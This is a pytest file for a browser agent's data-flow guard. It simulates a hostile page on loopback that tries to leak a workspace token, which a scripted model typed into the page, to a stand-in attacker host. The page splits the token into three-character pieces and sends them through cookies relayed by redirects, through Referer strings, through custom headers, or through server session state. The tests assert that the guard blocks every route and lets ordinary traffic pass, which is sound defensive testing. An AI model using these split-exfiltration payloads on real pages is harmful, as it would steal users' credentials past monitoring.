"""Red team, the run's data spread over a request's headers a few characters at a time, or put in a header of the
script's own. After a compliant model typed a workspace token into a page of a site the user named, the page's
script puts three characters of it at a time in a cookie of its own site whose server copies the cookie into a
redirect to another host, or in the Referer of requests to another host (``referrer: '/x?d=' + piece``), or puts
the whole token in a header of a same-origin fetch (``X-Data``) that its server copies into a redirect, or of a
request to another host. Each request alone carries too little to count, or carries it where the address is not;
the route hook adds what a request's cookies, Referer and own headers carry to the site's stream of pieces (a
cookie sent again unchanged counts once) and judges a script's headers like a body, so none of it reaches the
other host whole, and the refusal is logged. Ordinary cookies, Referers and headers pass. Real Chromium, pages on
127.0.0.1; only the model is scripted."""

from __future__ import annotations

import asyncio
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import parse_qs, unquote, urlsplit

import pytest
from recording_server import RecordingServer, recording_servers
from test_flow_page_channels import SECRETS, TOKEN, _page, _refused, _run, loopback_websockets

from gofer.events import ConfirmationRequested, RunStatus

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("loopback_websockets")]
__all__ = ["loopback_websockets"]  # the fixture, used here too


def _copying(server: RecordingServer, to: str) -> None:
    """Make ``server`` answer ``/hop`` with a redirect to ``to`` followed by its ``d`` cookie, ``/hdr`` with one
    followed by the request's ``X-Data`` header, ``/keep`` with one followed by what the last ``POST /save`` sent
    (the server's session), and record each request's Referer and ``X-Data`` with it."""
    base: type[BaseHTTPRequestHandler] = server.server.RequestHandlerClass  # type: ignore[assignment]
    session: dict[str, str] = {}

    class Copying(base):  # type: ignore[valid-type,misc]
        def _serve(self) -> None:
            path = urlsplit(self.path).path
            if path == "/save":
                length = int(self.headers.get("content-length") or 0)
                session["d"] = self.rfile.read(length).decode(errors="replace")
                server.requests.append(f"POST /save {session['d']}")
                self.send_response(204)
                self.end_headers()
                return
            if path not in ("/hop", "/hdr", "/keep"):
                server.requests.append(f"REFERER {self.headers.get('referer', '')} {self.headers.get('x-data', '')}")
                super()._serve()  # type: ignore[misc]
                return
            server.requests.append(f"{self.command} {self.path} ")
            cookies = dict(c.strip().split("=", 1) for c in (self.headers.get("cookie") or "").split(";") if "=" in c)
            data = {"/hop": unquote(cookies.get("d", "")), "/hdr": self.headers.get("x-data", ""),
                    "/keep": session.get("d", "")}[path]
            self.send_response(302)
            self.send_header("location", to + data)
            self.send_header("content-length", "0")
            self.end_headers()

        do_GET = do_POST = _serve

    server.server.RequestHandlerClass = Copying


def _sends(attacker: str) -> dict[str, str]:
    return {
        "a cookie its own site copies into a redirect, three characters at a time": (
            "(v.length % 3 === 0 && (document.cookie = 'd=' + encodeURIComponent(v.slice(-3)) + '; path=/', "
            "fetch('/hop').catch(() => {})))"),
        # each piece fetched twice: the second request carries the cookie unchanged, and by the time its redirect
        # comes back the page may have set the next piece (the redirect was judged by the site's latest cookie)
        "a cookie its own site copies into a redirect, each piece sent twice": (
            "(v.length % 3 === 0 && (document.cookie = 'd=' + encodeURIComponent(v.slice(-3)) + '; path=/', "
            "fetch('/hop').then(() => fetch('/hop')).catch(() => {})))"),
        "the Referer of requests to another host, three characters at a time": (
            f"(v.length % 3 === 0 && fetch('{attacker}/pixel.gif', {{referrer: '/x?d=' + v.slice(-3), "
            "referrerPolicy: 'unsafe-url', mode: 'no-cors'}).catch(() => {}))"),
        "a header of a same-origin fetch its server copies into a redirect": (
            "(v.length > 20 && fetch('/hdr', {headers: {'X-Data': v}}).catch(() => {}))"),
        "what an earlier request left in its server's session, copied into a redirect": (
            "(v.length > 20 && fetch('/save', {method: 'POST', body: v}).then(() => fetch('/keep'))"
            ".catch(() => {}))"),
        "a header of a request to another host": (
            f"(v.length > 20 && fetch('{attacker}/in', {{headers: {{'X-Data': v}}}}).catch(() => {{}}))"),
    }


def _got(attacker: RecordingServer) -> str:
    """What reached the attacker in its ``d`` fields (addresses and Referers), joined."""
    out = []
    for r in attacker.requests:
        url = r.split(" ")[1]
        out += parse_qs(urlsplit(url).query).get("d", [])
    return "".join(out)


@pytest.mark.parametrize("how", list(_sends("")))
async def test_headers_cannot_carry_the_token_to_another_host_in_pieces(tmp_path: Path, how: str) -> None:
    attacker, site = RecordingServer(), RecordingServer()
    _copying(site, f"{attacker.url}/r?d=")
    _copying(attacker, f"{attacker.url}/r?d=")
    with recording_servers(attacker, site):
        site.pages["/page"] = _page(_sends(attacker.url)[how])
        status, events = await _run(tmp_path, site, TOKEN)  # no allow or deny list: Chromium follows redirects
        await asyncio.sleep(1)
    assert status == RunStatus.FINISHED
    got = _got(attacker)
    assert not attacker.leaked(*SECRETS) and not any(s in got for s in SECRETS), (got, attacker.requests)
    refused = _refused(events)
    assert refused and {r.check for r in refused} == {"dataflow"}, refused
    assert not [e for e in events if isinstance(e, ConfirmationRequested)]


async def test_ordinary_cookies_referers_and_headers_still_go_through(tmp_path: Path) -> None:
    attacker, site = RecordingServer(), RecordingServer()
    _copying(site, f"{attacker.url}/r?d=")
    _copying(attacker, f"{attacker.url}/r?d=")
    with recording_servers(attacker, site):
        site.pages["/page"] = _page(
            "(v.length % 3 === 0 && (document.cookie = 'd=' + encodeURIComponent(v.slice(-3)) + '; path=/', "
            f"fetch('/hop').catch(() => {{}}), fetch('{attacker.url}/pixel.gif', {{referrer: '/x?d=' + "
            "v.slice(-3), referrerPolicy: 'unsafe-url', mode: 'no-cors'}).catch(() => {}), "
            "fetch('/hdr', {headers: {'X-Data': v.slice(-3), 'X-Requested-With': 'XMLHttpRequest'}})"
            ".catch(() => {}), fetch('/save', {method: 'POST', body: v.slice(-3)}).then(() => fetch('/keep'))"
            ".catch(() => {})))")
        status, events = await _run(tmp_path, site, "tomatoes and basil grow well together")
        await asyncio.sleep(1)
    assert status == RunStatus.FINISHED
    assert not _refused(events)
    got = _got(attacker)
    redirected = [r for r in attacker.requests if r.startswith("GET /r?d=")]  # by /hop, /hdr and /keep
    # (nearly) every piece: the first one by at least two of its ways (a loaded machine types on before a
    # request is made, so a later keystroke's cookie or Referer may go in its place)
    assert got.count("tom") >= 2 and len(redirected) >= 30, (got, attacker.requests)
